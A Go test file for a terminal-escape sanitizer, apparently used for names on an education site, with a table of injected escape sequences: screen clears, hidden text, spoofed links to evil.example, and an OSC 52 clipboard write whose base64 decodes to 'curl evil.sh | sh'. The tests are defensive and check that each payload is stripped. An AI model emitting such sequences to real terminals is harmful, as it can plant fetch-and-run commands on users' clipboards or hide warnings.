package textsafe

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// attacks are the escapes of issue #14 and friends, each inside a name.
var attacks = map[string]string{
	"clear screen":         "LevEduca\x1b[2J\x1b[H",
	"osc52 clipboard":      "LevEduca\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"osc52 st":             "LevEduca\x1b]52;c;Y3VybA==\x1b\\",
	"osc8 link":            "\x1b]8;;http://evil.example/\x1b\\LevEduca\x1b]8;;\x1b\\",
	"sgr conceal":          "LevEduca\x1b[8m hidden warning\x1b[0m",
	"dcs":                  "LevEduca\x1bP+q544e\x1b\\",
	"apc":                  "LevEduca\x1b_Gf=24;AAAA\x1b\\",
	"c1 csi":               "LevEduca\u009b2J",
	"c1 osc":               "LevEduca\u009d52;c;Zm9v\u009c",
	"c1 dcs":               "LevEduca\u0090q\u009c",
	"raw 0x9b byte":        "LevEduca\x9b2J",
	"carriage return":      "LevEduca\rFAKE OK",
	"bell and backspace":   "Lev\x07Edu\bca",
	"nul and del":          "Lev\x00Edu\x7fca",
	"esc single":           "LevEduca\x1bc",
	"esc charset":          "LevEduca\x1b(0",
	"unterminated osc":     "LevEduca\x1b]0;title",
	"lone esc at end":      "LevEduca\x1b",
	"csi cut by text":      "LevEduca\x1b[12;",
	"nested esc in string": "LevEduca\x1b]0;x\x1b[31m",
	"c1 next line":         "LevEduca\u0085",
}

// hostile reports the first forbidden rune of s: ESC, BEL, CR, any other
// C0 but \n and \t, DEL, C1, or an invalid byte.
func hostile(s string) (rune, bool) {
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && n == 1 {
			return rune(s[i]), true
		}
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f {
			return r, true
		}
		i += n
	}
	return 0, false
}

func TestCleanRemovesEveryEscape(t *testing.T) {
	for name, in := range attacks {
		got := Clean(in)
		if r, bad := hostile(got); bad {
			t.Errorf("%s: Clean(%q) = %q still has %U", name, in, got, r)
		}
		if !strings.Contains(got, "Lev") {
			t.Errorf("%s: Clean(%q) = %q lost the text", name, in, got)
		}
		// A raw 0x9B byte is invalid UTF-8: it becomes U+FFFD and what
		// follows is plain text to a UTF-8 terminal.
		if name != "raw 0x9b byte" && (strings.Contains(got, "52;") || strings.Contains(got, "evil") || strings.Contains(got, "2J")) {
			t.Errorf("%s: Clean(%q) = %q left the sequence's body", name, in, got)
		}
		if Safe(in) {
			t.Errorf("%s: Safe(%q) = true", name, in)
		}
		if !Safe(got) {
			t.Errorf("%s: Safe(Clean) = false for %q", name, got)
		}
	}
}

func TestCleanExact(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"LevEduca - Cursos", "LevEduca - Cursos"},
		{"Educação à distância — ç ã é 🎓", "Educação à distância — ç ã é 🎓"},
		{"linha 1\nlinha 2\tcoluna", "linha 1\nlinha 2\tcoluna"},
		{"\x1b[31mvermelho\x1b[0m", "vermelho"},
		{"\x1b]8;;http://evil/\x1b\\clique\x1b]8;;\x1b\\", "clique"},
		{"a\r\nb", "a\nb"},
		{"a\x9bb", "a\ufffdb"},
		{"\u009b31mX", "X"},
		{"X\x1b[8mY", "XY"},
		{"", ""},
	} {
		if got := Clean(c.in); got != c.want {
			t.Errorf("Clean(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestLine(t *testing.T) {
	if got := Line("a\nb\tc\x1b[2Jd\r"); got != "a b cd" {
		t.Fatalf("Line = %q", got)
	}
}

func TestEscaped(t *testing.T) {
	if got := Escaped("a\x1b[2J\r\u009b\x07ok\n"); got != `a\x1b[2J\r\u009b\x07ok`+"\n" {
		t.Fatalf("Escaped = %q", got)
	}
	for name, in := range attacks {
		if r, bad := hostile(Escaped(in)); bad {
			t.Errorf("%s: Escaped left %U", name, r)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Clean(s)
		if r, bad := hostile(got); bad {
			t.Fatalf("Clean(%q) = %q has %U", s, got, r)
		}
		if Clean(got) != got {
			t.Fatalf("Clean is not idempotent on %q", s)
		}
		if r, bad := hostile(Line(s)); bad || strings.ContainsAny(Line(s), "\n\t") {
			t.Fatalf("Line(%q) has %U", s, r)
		}
	})
}

func TestJSON(t *testing.T) {
	in := []byte("{\"a\":\"x\u009b2J\x7f ç — é\u0085\"}")
	got := string(JSON(in))
	if got != `{"a":"x\u009b2J\u007f ç — é\u0085"}` {
		t.Fatalf("JSON = %q", got)
	}
	var v, w map[string]string
	if err := json.Unmarshal(in, &v); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(got), &w); err != nil {
		t.Fatal(err)
	}
	if v["a"] != w["a"] {
		t.Fatalf("value changed: %q → %q", v["a"], w["a"])
	}
	if r, bad := hostile(got); bad {
		t.Fatalf("still has %U", r)
	}
}
